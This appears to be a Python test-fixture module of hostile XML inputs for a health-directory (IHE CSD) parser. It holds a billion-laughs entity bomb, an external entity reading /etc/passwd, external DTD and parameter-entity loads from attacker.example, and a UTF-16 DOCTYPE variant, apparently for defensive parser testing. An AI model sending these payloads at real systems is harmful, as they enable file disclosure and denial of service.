"""Hostile XML documents: entity expansion bombs, external entities and DTDs."""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<CSD xmlns="urn:ihe:iti:csd:2013">&lol9;</CSD>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CSD [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CSD xmlns="urn:ihe:iti:csd:2013"><organizationDirectory>&secret;</organizationDirectory></CSD>"""
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE CSD SYSTEM "http://attacker.example/evil.dtd"><CSD/>'
PARAMETER_ENTITY = b'<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]><x/>'
UTF16_DOCTYPE = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16")
